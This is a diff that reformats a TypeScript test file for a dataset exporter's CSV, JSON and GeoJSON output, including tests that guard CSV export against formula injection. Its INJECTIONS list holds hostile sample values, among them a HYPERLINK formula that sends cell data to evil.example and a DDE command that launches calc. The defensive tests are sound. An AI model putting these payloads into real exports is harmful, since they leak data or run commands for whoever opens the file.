@@ -4,11 +4,23 @@ import { CSV_COLUMNS, decodeList, encodeList, toCsv, toGeoJson, toJson } from '.
 import { faultlineCsv } from '../../../src/lib/io/formats/faultline-csv';
 import type { DatasetFile, EventRecord } from '../../../src/lib/model/types';
 
-const INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1', '\n=1+1'];
+const INJECTIONS = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"x")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+];
 
 function event(over: Partial<EventRecord> = {}): EventRecord {
   return {
-    id: 'e1', title: 'Title', summary: 'Summary', date: '2020-10-10', category: 'strike',
+    id: 'e1',
+    title: 'Title',
+    summary: 'Summary',
+    date: '2020-10-10',
+    category: 'strike',
     location: { name: 'Place', lat: 40.5, lon: -12.5, precision: 'city' },
     fatalities: { min: 3, max: 5, by: 'Officials' },
     sources: [{ publisher: 'P', title: 'T', url: 'https://example.org/a' }],
@@ -17,7 +29,15 @@ function event(over: Partial<EventRecord> = {}): EventRecord {
 }
 
 function dataset(events: EventRecord[]): DatasetFile {
-  return { format: 'faultline/1', title: 'D', description: '', license: '', updated: '', categories: [{ id: 'strike', label: 'Strike', color: '#d55e00' }], events };
+  return {
+    format: 'faultline/1',
+    title: 'D',
+    description: '',
+    license: '',
+    updated: '',
+    categories: [{ id: 'strike', label: 'Strike', color: '#d55e00' }],
+    events,
+  };
 }
 
 describe('CSV export against formula injection', () => {
@@ -53,19 +73,57 @@ describe('CSV export against formula injection', () => {
   it('keeps them verbatim in JSON', () => {
     const json = toJson(dataset(events));
     for (const text of INJECTIONS) expect(json).toContain(`"title": ${JSON.stringify(text)}`);
-    expect(json).not.toContain("\"'=");
+    expect(json).not.toContain('"\'=');
   });
 
   it('has the agreed columns first', () => {
-    expect(rows[0]!.slice(0, 18)).toEqual(['id', 'title', 'summary', 'date', 'end', 'approximate', 'category', 'actors', 'tags', 'location_name', 'lat', 'lon', 'location_precision', 'status', 'status_by', 'fatalities_min', 'fatalities_max', 'sources']);
-    expect(JSON.parse(rows[1]![col('sources')]!)).toEqual([{ publisher: 'P', title: 'T', url: 'https://example.org/a' }]);
+    expect(rows[0]!.slice(0, 18)).toEqual([
+      'id',
+      'title',
+      'summary',
+      'date',
+      'end',
+      'approximate',
+      'category',
+      'actors',
+      'tags',
+      'location_name',
+      'lat',
+      'lon',
+      'location_precision',
+      'status',
+      'status_by',
+      'fatalities_min',
+      'fatalities_max',
+      'sources',
+    ]);
+    expect(JSON.parse(rows[1]![col('sources')]!)).toEqual([
+      { publisher: 'P', title: 'T', url: 'https://example.org/a' },
+    ]);
   });
 });
 
 describe('toJson', () => {
   it('writes keys in the order of types.ts, whatever order they were built in, and omits empty meta', () => {
-    const scrambled = { related: ['e2'], sources: [{ url: 'https://x.org', title: 'T', publisher: 'P' }], location: { precision: 'site', lon: 2, lat: 1, name: 'N' }, category: 'strike', date: '2020', summary: 'S', title: 'T', id: 'e1' } as unknown as EventRecord;
-    const json = toJson({ events: [scrambled], categories: [{ color: '#000000', label: 'Strike', id: 'strike' }], title: 'D', updated: '', license: '', description: '', format: 'faultline/1' });
+    const scrambled = {
+      related: ['e2'],
+      sources: [{ url: 'https://x.org', title: 'T', publisher: 'P' }],
+      location: { precision: 'site', lon: 2, lat: 1, name: 'N' },
+      category: 'strike',
+      date: '2020',
+      summary: 'S',
+      title: 'T',
+      id: 'e1',
+    } as unknown as EventRecord;
+    const json = toJson({
+      events: [scrambled],
+      categories: [{ color: '#000000', label: 'Strike', id: 'strike' }],
+      title: 'D',
+      updated: '',
+      license: '',
+      description: '',
+      format: 'faultline/1',
+    });
     expect(json).toBe(`{
   "format": "faultline/1",
   "title": "D",
@@ -106,7 +164,9 @@ describe('toJson', () => {
   });
 
   it('keeps date strings and unknown fields verbatim rather than dropping them', () => {
-    const json = toJson(dataset([event({ date: '0099-03-15', end: '2021-02-03T14:05+03:00', extra: 1 } as Partial<EventRecord>)]));
+    const json = toJson(
+      dataset([event({ date: '0099-03-15', end: '2021-02-03T14:05+03:00', extra: 1 } as Partial<EventRecord>)]),
+    );
     expect(json).toContain('"date": "0099-03-15"');
     expect(json).toContain('"end": "2021-02-03T14:05+03:00"');
     expect(json).toContain('"extra": 1');
@@ -115,7 +175,10 @@ describe('toJson', () => {
 
 describe('toGeoJson', () => {
   it('writes [lon, lat] Points and geometry null for events without a place', () => {
-    const out = JSON.parse(toGeoJson([event(), event({ id: 'e2', location: null })])) as { type: string; features: { id: string; geometry: unknown; properties: Record<string, unknown> }[] };
+    const out = JSON.parse(toGeoJson([event(), event({ id: 'e2', location: null })])) as {
+      type: string;
+      features: { id: string; geometry: unknown; properties: Record<string, unknown> }[];
+    };
     expect(out.type).toBe('FeatureCollection');
     expect(out.features[0]!.geometry).toEqual({ type: 'Point', coordinates: [-12.5, 40.5] });
     expect(out.features[0]!.properties.location).toEqual({ name: 'Place', precision: 'city' });
@@ -124,9 +187,12 @@ describe('toGeoJson', () => {
 });
 
 describe('list cells', () => {
-  it.each([[['a', 'b']], [['a;b', 'c']], [[' padded']], [['[x]']], [['plain']]])('%j survives encode and decode', (items) => {
-    expect(decodeList(encodeList(items))).toEqual(items);
-  });
+  it.each([[['a', 'b']], [['a;b', 'c']], [[' padded']], [['[x]']], [['plain']]])(
+    '%j survives encode and decode',
+    (items) => {
+      expect(decodeList(encodeList(items))).toEqual(items);
+    },
+  );
 
   it('reads hand-typed lists leniently', () => {
     expect(decodeList('a;b ;  c')).toEqual(['a', 'b', 'c']);
